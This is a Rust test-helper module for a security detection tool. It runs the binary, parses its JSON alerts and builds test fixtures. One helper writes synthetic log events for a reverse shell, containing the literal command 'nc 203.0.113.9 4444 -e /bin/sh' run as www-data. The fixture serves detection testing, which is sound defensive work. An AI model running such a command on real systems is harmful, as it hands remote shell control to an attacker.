//! Runs the program over files that are made for a test.

use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use serde_json::Value;

/// What a run left behind.
pub(crate) struct Outcome {
    pub(crate) code: i32,
    pub(crate) out: String,
    pub(crate) err: String,
}

impl Outcome {
    /// The alerts of `--format json`.
    #[track_caller]
    pub(crate) fn alerts(&self) -> Vec<Value> {
        self.out.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
    }

    /// Asserts how it ended, with what it said in the message.
    #[track_caller]
    pub(crate) fn ended(self, code: i32) -> Self {
        assert_eq!(self.code, code, "{}\n{}", self.out, self.err);
        self
    }
}

pub(crate) fn program() -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_detectors"));
    // What the terminal of the person who runs the tests is like must not matter.
    command.env_remove("NO_COLOR").env_remove("CLICOLOR_FORCE").env_remove("CLICOLOR").env("TERM", "xterm-256color");
    command
}

/// Runs the program without input.
pub(crate) fn run(arguments: &[&str]) -> Outcome {
    run_with(program().args(arguments), b"")
}

/// Runs the program with bytes on standard input.
pub(crate) fn run_with(command: &mut Command, input: &[u8]) -> Outcome {
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
    let mut stdin = child.stdin.take().unwrap();
    let input = input.to_vec();
    // It may end before it has read everything.
    let writer = std::thread::spawn(move || drop(stdin.write_all(&input)));
    let output = child.wait_with_output().unwrap();
    writer.join().unwrap();
    let text = |bytes| String::from_utf8(bytes).unwrap();
    Outcome { code: output.status.code().unwrap(), out: text(output.stdout), err: text(output.stderr) }
}

/// A file of the events that belong to this workspace.
pub(crate) fn events(name: &str) -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/events").join(name)
}

/// Files in a folder of their own, gone with it.
pub(crate) struct Folder(tempfile::TempDir);

impl Folder {
    pub(crate) fn new() -> Self {
        Self(tempfile::tempdir().unwrap())
    }

    pub(crate) fn path(&self) -> &Path {
        self.0.path()
    }

    /// Writes a file, in folders that are made; its path.
    pub(crate) fn file(&self, name: &str, bytes: impl AsRef<[u8]>) -> String {
        let path = self.0.path().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, bytes).unwrap();
        path.display().to_string()
    }
}

pub(crate) fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

pub(crate) fn zstandard(bytes: &[u8]) -> Vec<u8> {
    ruzstd::encoding::compress_to_vec(bytes, ruzstd::encoding::CompressionLevel::Fastest)
}

/// A reverse shell: a start and the connection, on a host, at a second.
pub(crate) fn reverse_shell(host: &str, second: u32) -> String {
    let at = |ms: u32| format!("2026-03-02T08:{:02}:{:02}.{ms:03}Z", second / 60, second % 60);
    let common = format!(r#""host":{{"id":"{host}","name":"{host}","os":{{"type":"linux"}}}}"#);
    let process = format!(r#""entity_id":"e{second}","name":"nc","pid":42"#);
    format!(
        r#"{{"@timestamp":"{}","event":{{"id":"{host}-{second}-1","category":["process"],"type":["start"],"action":"exec"}},{common},"user":{{"name":"www-data"}},"process":{{{process},"args":["nc","203.0.113.9","4444","-e","/bin/sh"],"args_count":5,"command_line":"nc 203.0.113.9 4444 -e /bin/sh","parent":{{"name":"bash","pid":41}}}}}}
{{"@timestamp":"{}","event":{{"id":"{host}-{second}-2","category":["network"],"type":["start"],"action":"connection_attempted"}},{common},"process":{{{process}}},"destination":{{"ip":"203.0.113.9","port":4444}}}}
"#,
        at(0),
        at(140)
    )
}
